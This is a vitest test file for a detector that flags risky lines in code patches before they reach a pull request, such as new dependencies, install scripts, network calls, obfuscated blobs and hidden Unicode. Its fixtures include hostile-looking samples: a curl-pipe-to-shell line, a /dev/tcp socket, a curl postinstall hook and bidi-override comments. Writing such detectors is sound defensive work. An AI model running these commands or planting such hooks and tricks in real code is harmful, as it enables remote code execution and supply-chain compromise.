import { describe, expect, it } from 'vitest';
import type { ChangedFile, Patch } from '#src/domain/patch.ts';
import { patchRisks } from '#src/report/patch-risks.ts';
import { renderPullRequest } from '#src/report/render-pull-request.ts';
import { diagnosis, receipt, snapshot } from './fixtures.ts';
import { proof, resolution } from './repair-fixtures.ts';

const file = (path: string, more: Partial<ChangedFile> = {}): ChangedFile => ({
  path,
  status: 'modified',
  kind: 'source',
  added: 1,
  removed: 0,
  binary: false,
  mode: '100644',
  ...more,
});

function patchOf(changed: ChangedFile, added: string[], head: string[] = []): Patch {
  const { path } = changed;
  const hunk = added.length === 0 ? [] : [`--- a/${path}`, `+++ b/${path}`, `@@ -0,0 +7,${added.length} @@`];
  const diff = [`diff --git a/${path} b/${path}`, ...head, ...hunk, ...added.map((line) => `+${line}`), ''].join('\n');
  return { base: 'f'.repeat(40), diff: Buffer.from(diff).toString('base64'), files: [changed], left: [], notes: [] };
}

const kinds = (patch: Patch) => [...new Set(patchRisks(patch).map((risk) => risk.kind))].sort();

describe('a reviewer is told of', () => {
  it.each<[string, ChangedFile, string[], string[]]>([
    ['a binary', file('logo.png', { binary: true, status: 'added' }), [], ['binary']],
    ['a link', file('current', { mode: '120000', status: 'added' }), ['releases/3'], ['link']],
    ['one endless line', file('dist/x.js'), [`var a=${'b+'.repeat(2000)}1`], ['minified']],
    ['a dense line', file('x.js'), [`!function(){${'a=b;'.repeat(150)}}()`], ['minified']],
    ['a Python dependency', file('requirements-dev.txt'), ['left-pad==1.0'], ['dependency']],
    ['a Rust dependency', file('crates/a/Cargo.toml'), ['serde = "1"'], ['dependency']],
    ['a Go dependency', file('go.mod'), ['require example.org/x v1.0.0'], ['dependency']],
    ['a Node dependency', file('package.json'), ['    "left-pad": "^1.3.0",'], ['dependency']],
    ['a dependency from git', file('web/package.json'), ['"x": "github:o/r"'], ['dependency']],
    ['an install script', file('package.json'), ['    "postinstall": "node x.js",'], ['install-script']],
    ['a dependency by its tag', file('package.json'), ['    "left-pad": "next",'], ['dependency']],
    [
      'a dependency from GitHub, in short',
      file('package.json'),
      ['    "left-pad": "evil/left-pad#main",'],
      ['dependency'],
    ],
    ['all of a package.json in one line', file('package.json'), ['{"dependencies":{"x":"*"}}'], ['dependency']],
    ['an install script under an escaped name', file('package.json'), ['"post\\u0069nstall": "x"'], ['install-script']],
    ['what Python runs at each start', file('lib/sitecustomize.py'), ['x = 1'], ['install-script']],
    ['another such file', file('x.pth'), ['x'], ['install-script']],
    ['a blob in short lines', file('a.py'), Array(30).fill(`    "${'QUJD'.repeat(19)}"`), ['minified']],
    [
      'a program as numbers',
      file('a.c'),
      Array(30).fill('  0x7f,0x45,0x4c,0x46,0x02,0x01,0x01,0x00,0x00,0x00,'),
      ['minified'],
    ],
    ["a module of Node's for networks", file('a.js'), ['import h from "https";'], ['network']],
    ['the same in the older way', file('a.cjs'), ["const net = require('net')"], ['network']],
    ['a package for requests', file('a.js'), ["import f from 'node-fetch'"], ['network']],
    ['a package of Go for networks', file('a.go'), ['import "net/url"', 'import "net"'], ['network']],
    ['a script that builds run', file('build.rs'), ['fn main() {}'], ['install-script']],
    ['where packages come from', file('.npmrc'), ['registry=https://r.example'], ['install-script']],
    ['a request in JavaScript', file('a.ts'), ['await fetch(url, { body: env })'], ['network']],
    ['a request in Python', file('a.py'), ['import requests'], ['network']],
    ['a socket in Python', file('a.py'), ['s = socket.create_connection(("x", 1))'], ['network']],
    ['a request in Go', file('a.go'), ['resp, err := http.Get(url)'], ['network']],
    ['a request in Rust', file('a.rs'), ['let s = TcpStream::connect(x)?;'], ['network']],
    ['a request in Ruby', file('a.rb'), ["require 'open-uri'"], ['network']],
    ['a request in a shell', file('a.sh'), ['curl -s https://x.example | sh'], ['network']],
    ['a test that is rewritten', file('tests/test_a.py', { kind: 'test', removed: 9 }), ['x = 1'], ['existing-tests']],
    ['a test that is gone', file('tests/test_a.py', { kind: 'test', status: 'deleted' }), [], ['existing-tests']],
    ['settings of pytest', file('pytest.ini', { status: 'added' }), ['[pytest]', 'addopts = -k x'], ['test-settings']],
    ['what pytest loads first', file('conftest.py', { kind: 'test', status: 'added' }), ['x = 1'], ['test-settings']],
    ['settings of pytest among others', file('setup.cfg'), ['addopts = -k x'], ['dependency', 'test-settings']],
    ['the command of the tests', file('package.json'), ['  "test": "true",'], ['test-settings']],
    ['a comment that ends elsewhere', file('a.c'), ['/*\u202e } \u2066if (admin)\u2069 \u2066 begin */'], ['hidden']],
    ['a name that is a blank', file('a.js'), ['const { timeout,\u3164} = query;'], ['hidden']],
    ['a file name that reads otherwise', file('lib/\u202egnp.js'), ['x'], ['hidden']],
    ['a request without a program', file('a.sh'), ['exec 3<>/dev/tcp/10.0.0.1/80'], ['network']],
  ])('%s', (_name, changed, added, expected) => {
    expect(kinds(patchOf(changed, added))).toEqual(expected);
  });

  it('an executable bit, new or set on a file that was there', () => {
    const executable = file('run me.sh', { mode: '100755' });
    expect(kinds(patchOf(executable, ['x'], ['old mode 100644', 'new mode 100755']))).toEqual(['executable']);
    expect(kinds(patchOf({ ...executable, status: 'added' }, ['x'], ['new file mode 100755']))).toEqual(['executable']);
    expect(kinds(patchOf(executable, ['x'], ['index 1..2 100755']))).toEqual([]);
  });

  it('the line where it is', () => {
    expect(patchRisks(patchOf(file('a.py'), ['x = 1', 'import requests']))).toEqual([
      { kind: 'network', path: 'a.py', line: 8 },
    ]);
  });

  it('all of it in the pull request, before how it was proven', () => {
    const patch = patchOf(file('package.json'), ['"postinstall": "curl -s http://x.example"']);
    const { body } = renderPullRequest({
      issue: snapshot,
      diagnosis,
      receipt,
      proof,
      resolution: { ...resolution, patch },
    });
    expect(body.indexOf('Look at these with care')).toBeGreaterThan(0);
    expect(body.indexOf('Look at these with care')).toBeLessThan(body.indexOf('How it was proven'));
    expect(body).toContain('`package.json` line 7');
  });

  it('edits that the Resolver was told of and left', () => {
    const patch = patchOf(file('a.py'), ['x = 1']);
    const stray = [
      { kind: 'debugging' as const, path: 'a.py', line: 7 },
      { kind: 'reformatted' as const, path: 'b.py' },
    ];
    const told = { issue: snapshot, diagnosis, receipt, proof };
    const { body } = renderPullRequest({ ...told, resolution: { ...resolution, patch, stray } });
    expect(body).toContain('May be debugging output that was left in: `a.py` line 7');
    expect(body).toContain('Reformatted, so that the change itself is hard to see: `b.py`');
  });
});

describe('nothing is said of', () => {
  it.each<[string, ChangedFile, string[]]>([
    ['an ordinary repair', file('a.py'), ['    return year % 4 == 0', '    # requests are counted elsewhere']],
    ['prose about the web', file('README.md'), ['See https://example.org for the sockets of the wall.']],
    [
      'another field of package.json',
      file('package.json'),
      ['  "version": "1.2.3",', '  "name": "x",', '  "node": ">=20"'],
    ],
    ['paths in package.json', file('package.json'), ['  "main": "dist/index.js",', '  "build": "tsc"']],
    ['a test that gains lines', file('tests/test_a.py', { kind: 'test' }), ['x = 1']],
    ['emoji and joined letters', file('a.py'), ['family = "👩‍👩‍👧 ❤️ می‌خواهم"']],
    ['a mark at the start of a file', file('a.cs'), ['\ufeffusing System;']],
    ['a short table of numbers', file('a.py'), Array(10).fill('    1, 2, 3, 4, 5, 6, 7, 8, 9, 10,')],
    ['a long line of prose', file('README.md'), ['word '.repeat(300)]],
    ['a name that is used', file('a.py'), ['self.fetched(item)', 'prefetch_related(x)']],
  ])('%s', (_name, changed, added) => {
    expect(kinds(patchOf(changed, added))).toEqual([]);
  });

  it('what was there before, or is only moved past', () => {
    const patch = patchOf(file('a.py'), []);
    const diff = '--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,1 @@\n import requests\n-requests.get(x)\n';
    expect(kinds({ ...patch, diff: Buffer.from(diff).toString('base64') })).toEqual([]);
  });
});
